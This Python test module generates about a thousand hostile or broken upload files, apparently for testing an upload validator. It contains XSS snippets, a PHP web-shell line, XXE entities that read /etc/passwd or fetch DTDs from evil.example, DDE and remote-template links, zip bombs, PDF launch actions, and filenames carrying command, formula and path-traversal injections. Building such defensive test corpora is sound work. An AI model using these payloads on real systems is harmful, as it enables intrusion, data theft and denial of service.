"""A thousand hostile or broken files, made anew from one seed: nothing of them is kept in the repository."""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from openpyxl import Workbook

from tests.uploads import PDF, TYPES, docx, office, picture

SEED = 20200314
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
HTML = b"<!DOCTYPE html><html><body onload=alert(1)><script>alert(1)</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
DOCUMENT = "<w:document><w:body><w:p><w:r><w:t>{}</w:t></w:r></w:p></w:body></w:document>"
MAIN = {"docx": "word/document.xml", "xlsx": "xl/workbook.xml", "pptx": "ppt/presentation.xml"}
FOLDER = {"docx": "word", "xlsx": "xl", "pptx": "ppt"}


@dataclass(frozen=True)
class Hostile:
    """`harmless` ones may be taken: broken without harm, or with nothing wrong but the name."""

    kind: str
    name: str
    content: bytes
    harmless: bool = False


def package(extension: str, **more: str | bytes) -> bytes:
    return office({"[Content_Types].xml": TYPES, MAIN[extension]: DOCUMENT.format("学习"), **more})


def valid(extension: str, rng: random.Random) -> bytes:
    shade = f"#{rng.randrange(256):02x}0000"
    if extension in ("docx", "pptx"):
        return package(extension, **{"docProps/app.xml": f"<p>{rng.random()}</p>"})
    if extension == "xlsx":
        book, buffer = Workbook(), io.BytesIO()
        book.active["A1"] = rng.random()
        book.save(buffer)
        return buffer.getvalue()
    if extension == "pdf":
        return PDF.replace(b"endobj", f"endobj % {rng.random()}".encode())
    if extension == "txt":
        return f"学习心得 {rng.random()}\n一、认识\n好好学习。".encode(rng.choice(["utf-8", "gb18030"]))
    size = (rng.randrange(20, 200), rng.randrange(20, 200))
    return picture("PNG" if extension == "png" else "JPEG", size, shade)


EXTENSIONS = ("docx", "xlsx", "pptx", "pdf", "jpg", "png", "txt")


def wrong_type(rng: random.Random, number: int) -> tuple[str, bytes]:
    others = (
        "exe bat js vbs lnk html htm svg zip rar 7z iso apk docm xlsm dotm hta chm jar scr mht xml csv doc wps heic"
    )
    extension = rng.choice(others.split())
    content = rng.choice([b"MZ\x90\x00", HTML, SVG, OLE, rng.randbytes(40), valid("docx", rng)])
    return rng.choice(["材料", "a.pdf", "心得.docx"]) + "." + extension, content


def mismatch(rng: random.Random, number: int) -> tuple[str, bytes]:
    extension = EXTENSIONS[number % len(EXTENSIONS)]
    others = [b"MZ\x90\x00" + rng.randbytes(60), b"GIF89a" + bytes(40), OLE + bytes(600), b"RIFF0000WEBPVP8 \x00"]
    others += [
        b"\x7fELF\x00" + rng.randbytes(60),
        b"\x1f\x8b\x08\x00" + rng.randbytes(30),
        bytes(1) + rng.randbytes(300),
    ]
    if rng.random() < 0.5:
        true = [other for other in EXTENSIONS if other not in (extension, "pdf", "txt")]
        return f"材料{number}.{extension}", valid(rng.choice(true), rng)
    return f"材料{number}.{extension}", rng.choice(others)


def macros(rng: random.Random, number: int) -> tuple[str, bytes]:
    extension = rng.choice(["docx", "xlsx", "pptx"])
    folder = FOLDER[extension]
    active = '<Types><Override PartName="/x" ContentType="application/vnd.ms-{}"/></Types>'
    told: dict[str, str | bytes] = rng.choice(
        [
            {f"{folder}/vbaProject.bin": OLE},
            {f"{folder}/VBAPROJECT.BIN": OLE},
            {f"{folder}/activeX/activeX1.xml": "<a/>"},
            {"xl/macrosheets/sheet1.xml": "<a/>"},
            {"customUI/customUI14.xml": "<a/>"},
            {"[Content_Types].xml": active.format("word.document.macroEnabled.main+xml")},
            {"[Content_Types].xml": active.format("office.vbaProject")},
            {"[Content_Types].xml": active.format("excel.sheet.m&#97;croEnabled.main+xml")},
            {"[Content_Types].xml": active.format("word.document.macroEnabled.main+xml").encode("utf-16")},
            {f"{folder}/embeddings/oleObject1.bin": OLE + "_VBA_PROJECT".encode("utf-16-le")},
        ]
    )
    return f"宏{number}.{extension}", package(extension, **told)


def remote(rng: random.Random, number: int) -> tuple[str, bytes]:
    targets = [
        "http://evil.example/t.dotm",
        "HTTPS://evil.example/",
        "\\\\evil\\share\\t.dotm",
        "//evil/t",
        "ftp://evil/",
    ]
    targets += [
        "file://evil/share/t.dotm",
        "file:////evil/t.dotm",
        "file:///\\\\evil\\t",
        "&#104;ttp://evil/t",
        "mhtml:http://e/",
    ]
    kinds = ["attachedTemplate", "oleObject", "frame", "subDocument", "externalLinkPath", "aFChunk"]
    told = f'Type="http://x/{rng.choice(kinds)}" TargetMode="External" Target="{rng.choice(targets)}"'
    link = f"<Relationships><Relationship {told}/></Relationships>"
    field = "<w:document><w:p>{}</w:p></w:document>"
    split = "<w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\cmd</w:instrText></w:r>"
    extension, parts = rng.choice(
        [
            ("docx", {"word/_rels/settings.xml.rels": link}),
            ("docx", {"word/_rels/document.xml.rels": link.encode("utf-16")}),
            ("xlsx", {"xl/worksheets/_rels/sheet1.xml.rels": link}),
            ("pptx", {"ppt/slides/_rels/slide1.xml.rels": link}),
            ("docx", {"word/document.xml": field.format(split)}),
            ("docx", {"word/document.xml": field.format('<w:fldSimple w:instr="DDE excel"/>')}),
            (
                "xlsx",
                {"xl/externalLinks/externalLink1.xml": '<externalLink><ddeLink ddeService="cmd"/></externalLink>'},
            ),
        ]
    )
    return f"引用{number}.{extension}", package(extension, **parts)


def _patched(content: bytes, signature: bytes, offset: int, value: bytes) -> bytes:
    made, at = bytearray(content), content.rfind(signature)
    made[at + offset : at + offset + len(value)] = value
    return bytes(made)


ZEROS = office({"[Content_Types].xml": TYPES, MAIN["docx"]: DOCUMENT, "word/media/a.bin": bytes(9_000_000)})


def bomb(rng: random.Random, number: int) -> tuple[str, bytes]:
    extension = rng.choice(["docx", "xlsx", "pptx"])
    base, size = package(extension), rng.randrange(1, 1_000_000)
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    locator = struct.pack("<4sLQL", b"PK\x06\x07", 0, len(base), 1)
    record = struct.pack("<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, 500_000, 500_000, 47 * 500_000, 0)
    many = {f"word/{n}.xml": "" for n in range(2100)}
    nested = base
    for _ in range(3):
        nested = package("docx", **{"word/embeddings/a.docx": nested})
    made: list[Callable[[], bytes]] = [
        lambda: _patched(ZEROS, b"PK\x01\x02", 24, struct.pack("<L", 0xF0000000 + size)),  # says it is enormous
        lambda: _patched(ZEROS, b"PK\x01\x02", 24, struct.pack("<L", size)),  # says it is small
        lambda: _patched(base, b"PK\x05\x06", 12, struct.pack("<L", 40_000_000)),  # a directory larger than the file
        lambda: package(extension, **many),
        lambda: base[:-22] + record + locator + end,
        lambda: base[:-22] + record + locator + base[-22:],  # the old record says little, the 64-bit one much
        lambda: base + b"PK\x05\x06",  # a second signature that hides the record
        lambda: nested,
        lambda: office({"[Content_Types].xml": TYPES, MAIN[extension]: DOCUMENT}, zipfile.ZIP_LZMA),
        lambda: office({"[Content_Types].xml": TYPES, MAIN[extension]: DOCUMENT}, zipfile.ZIP_BZIP2),
        lambda: _overlapping(extension, rng.randrange(40, 400)),
        lambda: _patched(base, b"PK\x01\x02", 8, b"\x01\x00"),  # encrypted
        lambda: _twice(extension),
        lambda: package(extension, **{rng.choice(["../../etc/x.xml", "/abs.xml", "a\\b.xml", "C:x.xml"]): "<a/>"}),
    ]
    content = made[number % len(made)]()
    return f"炸弹{number}.{'docx' if content.find(b'PK') == 0 and b'word/' in content else extension}", content


def _overlapping(extension: str, times: int) -> bytes:
    """Many entries of the directory that all unpack the same bytes."""
    base = package(extension, **{"x/a.bin": bytes(600_000)})
    at = base.rfind(b"PK\x01\x02")
    end = base.rfind(b"PK\x05\x06")
    entry, start = base[at:end], struct.unpack("<L", base[end + 16 : end + 20])[0]
    copies = b"".join(entry.replace(b"x/a.bin", f"x/{n:05}"[:7].encode()) for n in range(times))
    count, directory = struct.unpack("<H", base[end + 10 : end + 12])[0] + times, base[start:end] + copies
    last = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, len(directory), start, 0)
    return base[:start] + directory + last


def _twice(extension: str) -> bytes:
    """Two parts of one name: a reader that takes the first sees another text than one that takes the last."""
    base = package(extension, **{MAIN[extension].upper(): DOCUMENT.format("另一份")})
    return base.replace(MAIN[extension].upper().encode(), MAIN[extension].encode())


LAUGHS = '<!DOCTYPE l [<!ENTITY a "哈哈哈哈"><!ENTITY b "&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;">]>'


def entities(rng: random.Random, number: int) -> tuple[str, bytes]:
    extension = rng.choice(["docx", "xlsx", "pptx"])
    prologs = [
        LAUGHS + "<w:document><w:t>&c;</w:t></w:document>",
        '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
        '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><x/>',
        '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><x/>',
        f"<!-- {'长' * rng.randrange(1, 3000)} --><!DOCTYPE x><x/>",
        f"<!-- {'x' * 70_000} --><!DOCTYPE x><x/>",
    ]
    folder = FOLDER[extension]
    parts = [MAIN[extension], "[Content_Types].xml", "_rels/.rels", f"{folder}/styles.xml", "docProps/core.xml"]
    text = rng.choice(prologs)
    content = text.encode(rng.choice(["utf-8", "utf-16", "utf-8-sig"]))
    return f"实体{number}.{extension}", package(extension, **{rng.choice(parts): content})


def polyglot(rng: random.Random, number: int) -> tuple[str, bytes]:
    archive = office({"a.class": rng.randbytes(50)})
    jpeg, png = valid("jpg", rng), valid("png", rng)
    script = rng.choice([HTML, SVG, b"<script src=//evil></script>", b"<?php system($_GET[0]);"])
    text = struct.pack(">L", len(script)) + b"tEXt" + script + struct.pack(">L", zlib.crc32(b"tEXt" + script))
    made = [
        ("jpg", jpeg[:2] + b"\xff\xfe" + struct.pack(">H", len(script) + 2) + script + jpeg[2:]),
        ("jpg", jpeg + script),
        ("jpg", jpeg + archive),
        ("jpg", b"\xff\xd8\xff\xe0/*" + jpeg[6:] + b"*/=alert(1);/*"),
        ("png", png[:33] + text + png[33:]),
        ("png", png + script),
        ("png", png + archive),
        ("pdf", PDF + archive),
        ("pdf", PDF[:9] + b"%" + script + b"\n" + PDF[9:]),
        ("pdf", PDF + script),
        ("pdf", script + PDF),
        ("docx", script + docx()),
        ("docx", docx() + script),
        ("docx", docx()[:-2] + struct.pack("<H", len(script)) + script),
        ("xlsx", valid("pdf", rng) + valid("xlsx", rng)),
        ("txt", b"  \r\n" + HTML),
        ("txt", b"\xef\xbb\xbf" + SVG),
        ("txt", ("\ufeff" + HTML.decode()).encode("utf-16-le")),
    ]
    extension, content = made[number % len(made)]
    return f"两用{number}.{extension}", content


def renamed_page(rng: random.Random, number: int) -> tuple[str, bytes]:
    content = rng.choice(
        [HTML, SVG, b"<?xml version='1.0'?><html/>", b"MIME-Version: 1.0\r\n\r\n<html>", b"{\\rtf1 x}"]
    )
    return f"网页{number}.{EXTENSIONS[number % len(EXTENSIONS)]}", rng.choice([b"", b"\n ", b"\xef\xbb\xbf"]) + content


def truncated(rng: random.Random, number: int) -> tuple[str, bytes]:
    extension = EXTENSIONS[number % len(EXTENSIONS)]
    content = valid(extension, rng)
    return f"半截{number}.{extension}", content[: rng.randrange(1, len(content) - 1)]


def flipped(rng: random.Random, number: int) -> tuple[str, bytes]:
    """Some bytes of a true file are wrong: whether it may be kept depends on which."""
    extension = EXTENSIONS[number % len(EXTENSIONS)]
    content = bytearray(valid(extension, rng))
    for _ in range(rng.randrange(1, 12)):
        content[rng.randrange(len(content))] = rng.randrange(256)
    return f"坏字节{number}.{extension}", bytes(content)


def _png(width: int, height: int, data: bytes = b"") -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">L", len(body)) + kind + body + struct.pack(">L", zlib.crc32(kind + body))

    head = struct.pack(">LLBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data or zlib.compress(b"x")) + chunk(b"IEND", b"")
    )


def pixels(rng: random.Random, number: int) -> tuple[str, bytes]:
    side = rng.randrange(15_000, 65_000)
    jpeg = valid("jpg", rng)
    at = jpeg.index(b"\xff\xc0") + 5
    made = [
        ("png", _png(side, side)),
        ("png", _png(2**31 - 1, 2**31 - 1)),
        ("png", _png(0, side)),
        ("jpg", jpeg[:at] + struct.pack(">HH", side, side) + jpeg[at + 4 :]),
        ("jpg", jpeg[:at] + struct.pack(">HH", 0, side) + jpeg[at + 4 :]),
    ]
    extension, content = made[number % len(made)]
    return f"像素{number}.{extension}", content


TOO_LONG = "长" * 280
NAMES = [
    "../../../../etc/passwd",
    "..\\..\\windows\\system32\\x",
    "/etc/cron.d/x",
    "C:\\autoexec",
    "\u202egnp.exe",
    "a\u2066b\u2069",
    TOO_LONG,
    "x" * 255,
    "a\x00.exe",
    "两行\r\nSet-Cookie: a=b",
    "制表\t符",
    'a"; filename="b.html',
    "a'b`c$(id)",
    "CON",
    "nul",
    "COM1.x",
    "心得😀🇨🇳",
    "...隐藏",
    ".htaccess",
    "=cmd|'/c calc'!A1",
    "+SUM(1)",
    "@x",
    "<script>alert(1)</script>",
    "&lt;b&gt;",
    "%2e%2e%2fx",
    "a?b#c",
    "-rf ~",
    " 　前后有空格　 ",
    "é́́́́",
    "\ufeffBOM",
    "半字\u200b宽\u200d",
    "{{ 7*7 }}{% debug %}",
    "a;b,c",
    "～！＠＃",
]


def bad_name(rng: random.Random, number: int) -> tuple[str, bytes]:
    extension = rng.choice(["docx", "txt", "jpg", "png", "pdf"])
    return f"{NAMES[number % len(NAMES)]}.{rng.choice([extension, extension.upper()])}", valid(extension, rng)


def _drawn(mark: str) -> bytes:
    """A page that draws the mark by a font's own numbers, with the table that says what they are."""
    pairs = "".join(f"<{n:02x}> <{ord(letter):04x}>\n" for n, letter in enumerate(mark, start=1))
    table = f"begincodespacerange <00> <ff> endcodespacerange 9 beginbfchar {pairs} endbfchar".encode()
    page = b"BT /F1 16 Tf [<" + "".join(f"{n:02x}" for n in range(1, len(mark) + 1)).encode() + b">] TJ ET"
    streams = b""
    for number, content in ((7, page), (8, table)):
        head = b"%d 0 obj\n<< /Filter /FlateDecode >>\nstream\n" % number
        streams += head + zlib.compress(content) + b"\nendstream\nendobj\n"
    return PDF.replace(b"trailer", streams + b"trailer")


def secret(rng: random.Random, number: int) -> tuple[str, bytes]:
    mark = rng.choice(["绝密", "绝 密", "机密★10年", "秘密 ★ 5年", "机密★启用前", "秘密级"])
    first, second = mark[:1], mark[1:]
    split = DOCUMENT.format(f"{first}</w:t></w:r><w:r><w:t>{second}")
    coded = DOCUMENT.format("".join(f"&#{ord(letter)};" for letter in mark))
    head = DOCUMENT.format(mark).replace("document", "hdr")
    strings = f"<sst><si><t>{mark}</t></si></sst>"
    hexed = "".join(f"{byte:02X}" for byte in b"\xfe\xff" + mark.encode("utf-16-be"))
    made = [
        (f"{mark}文件{number}.docx", docx()),
        (f"文件{number}.docx", docx(**{"word/document.xml": split})),
        (f"文件{number}.docx", docx(**{"word/document.xml": coded})),
        (f"文件{number}.docx", docx(**{"word/document.xml": split.encode("utf-16")})),
        (f"文件{number}.docx", docx(**{"word/header1.xml": head})),
        (f"文件{number}.txt", f"{mark}\n通知".encode(rng.choice(["utf-8", "gb18030", "utf-16"]))),
        (f"文件{number}.txt", (f"{mark}\n" + "学习。" * 4000).encode("gb18030")),
        (f"文件{number}.xlsx", package("xlsx", **{"xl/sharedStrings.xml": strings})),
        (f"文件{number}.pptx", package("pptx", **{"ppt/slides/slide1.xml": f"<p:sld><a:t>{mark}</a:t></p:sld>"})),
        (f"文件{number}.pdf", _drawn(mark)),
        (f"文件{number}.pdf", PDF.replace(b"/Catalog", f"/Catalog /Title <{hexed}>".encode())),
    ]
    return made[number % len(made)]


def lively_pdf(rng: random.Random, number: int) -> tuple[str, bytes]:
    words = [b"/OpenAction << /S /JavaScript /JS (app.alert) >>", b"/AA << /O << /S /Java#53cript >> >>"]
    words += [b"/A << /S /Launch /F (cmd.exe) >>", b"/Names << /EmbeddedFiles 9 0 R >>", b"/Type /EmbeddedFile"]
    words += [b"/Subtype /RichMedia", b"/AcroForm << /XFA [9 0 R] >>", b"/A << /S /SubmitForm >>", b"/S /#4c#61unch"]
    words += [b"/Encrypt 9 0 R"]
    word = words[number % len(words)]
    if rng.random() < 0.4 and b"Encrypt" not in word:
        packed = zlib.compress(b"1 0 << " + word + b" >>")
        stream = b"9 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\n" + packed
        return f"活动{number}.pdf", PDF.replace(b"trailer", stream + b"\nendstream\nendobj\ntrailer")
    return f"活动{number}.pdf", PDF.replace(b"/Catalog", b"/Catalog " + word)


def parcel(rng: random.Random, number: int) -> tuple[str, bytes]:
    native = OLE + bytes(rng.randrange(500)) + "\x01Ole10Native".encode("utf-16-le")
    inside = package("docx", **{"word/vbaProject.bin": OLE})
    told: dict[str, str | bytes] = rng.choice(
        [
            {"word/embeddings/oleObject1.bin": native},
            {"word/embeddings/setup.exe": b"MZ"},
            {"word/embeddings/a.bin": b"MZ\x90\x00" + rng.randbytes(30)},
            {"word/embeddings/a.docm": inside},
            {"word/embeddings/a.docx": inside},
            {"word/embeddings/a.zip": office({"a": "b"})},
            {"word/embeddings/a.docx": b"<html>"},
        ]
    )
    return f"夹带{number}.docx", package("docx", **told)


def empty(rng: random.Random, number: int) -> tuple[str, bytes]:
    return f"空{number}.{EXTENSIONS[number % len(EXTENSIONS)]}", b""


MAKERS: list[tuple[Callable[[random.Random, int], tuple[str, bytes]], int, bool]] = [
    (wrong_type, 80, False),
    (mismatch, 84, False),
    (macros, 60, False),
    (remote, 70, False),
    (bomb, 84, False),
    (entities, 60, False),
    (polyglot, 90, False),
    (renamed_page, 49, False),
    (truncated, 98, True),
    (flipped, 98, True),
    (pixels, 50, False),
    (bad_name, 68, True),
    (secret, 50, False),
    (lively_pdf, 30, False),
    (parcel, 22, False),
    (empty, 7, False),
]


def thousand() -> Iterator[Hostile]:
    for make, count, harmless in MAKERS:
        rng = random.Random(f"{SEED} {make.__name__}")
        for number in range(count):
            name, content = make(rng, number)
            yield Hostile(make.__name__, name, content, harmless)
